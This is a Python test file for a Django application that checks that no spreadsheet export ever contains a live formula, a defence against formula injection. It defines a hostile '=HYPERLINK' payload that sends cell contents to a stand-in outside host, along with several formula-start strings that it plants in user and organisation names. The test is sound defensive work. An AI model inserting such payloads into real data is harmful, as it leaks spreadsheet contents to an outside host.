"""Threat 14: whoever opens what leaves in a spreadsheet opens words, never a formula."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest
from django.urls import reverse
from odf.opendocument import load
from odf.table import TableCell
from openpyxl import load_workbook

from conftest import CheckedClient
from tests.access.world import World
from tests.cast import sign_in
from tests.threats.test_source import trees
from vecu.accompaniment.models import Programme
from vecu.core.spreadsheet import FORMULA_STARTS
from vecu.peers.actions import imports
from vecu.people.models import Organisation, Person

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://ailleurs.example/?"&A1,"ici")'
TABS = ("\t=1+1", "\r=1+1", "+33", "-2+3", "@SUM(1)", "=1")


def texts(content: bytes, kind: str) -> Iterator[str]:
    """Each cell as a spreadsheet will read it; a formula is told at once."""
    if "csv" in kind:
        for line in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
            yield from line
    elif "opendocument" in kind:
        for cell in load(io.BytesIO(content)).spreadsheet.getElementsByType(TableCell):
            assert cell.getAttribute("formula") is None
            yield str(cell)
    else:
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for line in sheet.iter_rows():
                for cell in line:
                    assert cell.data_type != "f", cell.coordinate
                    yield str(cell.value or "")


@pytest.fixture
def hostile(world: World) -> World:
    """Whatever people may type about themselves or their house begins like a formula."""
    for person in Person.objects.all():
        person.given_name = person.family_name = HOSTILE
        person.handle = HOSTILE[:60]
        person.save()
    Organisation.objects.update(name=HOSTILE[:120])
    Programme.objects.update(name=HOSTILE[:80])
    return world


def exports(world: World) -> dict[str, Any]:
    """Each way out: who asks, how."""
    claire = sign_in(CheckedClient(), world.cast.claire)
    lines = [["Prénom", "Nom", "Téléphone", "E-mail", "Vécu"], *[[start, start, "x", "y", "z"] for start in TABS]]
    file = io.BytesIO("\n".join(";".join(line) for line in lines).encode())
    draft = imports.read_import(
        file, actor=world.here.claire, organisation=world.here.organisation, file_name="pairs.csv"
    )
    accounts = reverse("accounts_export")
    return {
        "peers, csv": claire.post(reverse("peer_export"), {"format": "csv"}),
        "peers, xlsx": claire.post(reverse("peer_export")),
        "refused lines": claire.get(reverse("peer_import_refused", args=[draft.pk])),
        **{f"expenses, {end}": claire.post(accounts, {"format": end}) for end in ("csv", "hours_csv", "xlsx")},
        "figures": claire.get(reverse("figures_csv")),
        **{f"model, {end}": claire.get(reverse("peer_import_template", args=[end])) for end in ("csv", "xlsx", "ods")},
    }


def test_no_cell_of_any_export_is_a_formula(hostile: World) -> None:
    seen = 0
    for name, response in exports(hostile).items():
        assert response.status_code == 200, name
        assert response["Content-Disposition"].startswith("attachment"), name
        kind = response["Content-Type"]
        for text in texts(response.content, kind):
            if "csv" in kind:
                assert not text.startswith((*FORMULA_STARTS, "\t", "\r")), (name, text)
            seen += "HYPERLINK" in text
    assert seen, "the hostile names leave in one export at least"


def test_no_way_out_is_forgotten() -> None:
    """Each view that answers a spreadsheet stands above: a new one must be added."""
    kinds = ("write_csv", "write_xlsx", "write_ods")
    asked = {
        path for path, tree in trees().items() if "/views" in path and any(kind in ast.dump(tree) for kind in kinds)
    }
    peers = {"vecu/peers/views/lists.py", "vecu/peers/views/imports.py"}
    assert asked == peers | {"vecu/impact/views.py", "vecu/recognition/views/accounts.py"}
